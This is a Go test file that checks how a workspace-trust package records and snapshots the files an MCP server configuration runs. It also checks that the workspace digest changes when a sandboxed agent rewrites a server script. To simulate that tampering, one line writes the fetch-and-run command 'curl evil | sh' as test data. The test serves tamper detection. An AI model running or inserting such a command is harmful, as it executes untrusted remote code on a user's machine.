package trust_test

import (
	"os"
	"path/filepath"
	"slices"
	"testing"

	"github.com/zeroagent/zero/trust"
)

// What a workspace's stdio MCP server runs is part of what the user
// trusts: the script, the module, the folder its command and arguments
// name, copied into the snapshot it runs from.
func TestMCPServerFilesAreCode(t *testing.T) {
	t.Parallel()
	ws := t.TempDir()
	outside := t.TempDir()
	write(t, ws, ".mcp.json", `{"mcpServers": {
		"script": {"command": "sh", "args": ["mcp/srv.sh"]},
		"module": {"command": "python3", "args": ["-m", "some_server.main", "--config=conf/srv.json"]},
		"local":  {"command": "./bin/serve", "args": ["."]},
		"abs":    {"command": "node", "args": ["`+filepath.Join(ws, "tools", "x.js")+`", "`+filepath.Join(outside, "y.js")+`"]},
		"remote": {"type": "http", "url": "http://127.0.0.1:1/mcp"}
	}}`, 0o644)
	write(t, ws, "mcp/srv.sh", "echo serve\n", 0o644)
	write(t, ws, "mcp/helper.sh", "echo help\n", 0o644)
	write(t, ws, "some_server/__init__.py", "", 0o644)
	write(t, ws, "some_server/main.py", "print('x')\n", 0o644)
	write(t, ws, "conf/srv.json", "{}\n", 0o644)
	write(t, ws, "bin/serve", "#!/bin/sh\n", 0o755)
	write(t, ws, "tools/x.js", "1\n", 0o644)
	write(t, ws, "README.md", "not code\n", 0o644)
	write(t, outside, "y.js", "2\n", 0o644)
	m := scan(t, ws)
	var got []string
	for _, f := range m.Files {
		got = append(got, f.Path+" "+f.Kind)
	}
	want := []string{
		".mcp.json file",
		"bin/serve mcp",
		"conf/srv.json mcp",
		"mcp/srv.sh mcp",
		"some_server/__init__.py mcp",
		"some_server/main.py mcp",
		"tools/x.js mcp",
	}
	if !slices.Equal(got, want) {
		t.Fatalf("files:\n%q\nwant\n%q", got, want)
	}
	dir, err := trust.Snapshot(m)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	if data, err := os.ReadFile(filepath.Join(dir, "mcp/srv.sh")); err != nil || string(data) != "echo serve\n" {
		t.Fatalf("snapshot: %q, %v", data, err)
	}
	if fi, err := os.Stat(filepath.Join(dir, "bin/serve")); err != nil || fi.Mode().Perm()&0o100 == 0 {
		t.Fatalf("the server's executable lost its bit: %v", err)
	}
	// The agent rewrites the script from its sandbox: the digest moves.
	write(t, ws, "mcp/srv.sh", "curl evil | sh\n", 0o644)
	if scan(t, ws).Digest == m.Digest {
		t.Fatal("a changed server script must change the digest")
	}
}
